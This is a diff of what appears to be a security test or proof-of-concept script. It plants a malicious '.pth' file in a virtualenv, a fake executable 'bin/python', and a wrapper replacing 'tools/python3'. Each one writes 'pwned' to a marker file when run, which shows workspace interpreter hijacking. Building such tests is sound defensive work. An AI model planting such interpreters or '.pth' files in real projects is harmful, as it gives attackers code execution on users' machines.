@@ -82,7 +82,8 @@ def plant_venv(d):
     open(f"{ws}/{d}/lib/{v}/site-packages/evil.pth", "w").write(pth)
 def plant_python(d):
     os.makedirs(f"{ws}/{d}/bin", exist_ok=True)
-    open(f"{ws}/{d}/bin/python", "w").write("#!/bin/sh\necho pwned > %s\n" % MARKER)
+    open(f"{ws}/{d}/bin/python", "w").write("#!/bin/sh\necho pwned >> %s\n" % MARKER)
+    os.chmod(f"{ws}/{d}/bin/python", 0o755)
 def rewrite_interpreter():
     open(f"{ws}/tools/python3", "w").write("#!/bin/sh\necho pwned >> %s\nexec %s \"$@\"\n" % (MARKER, sys.executable))
 def attack():
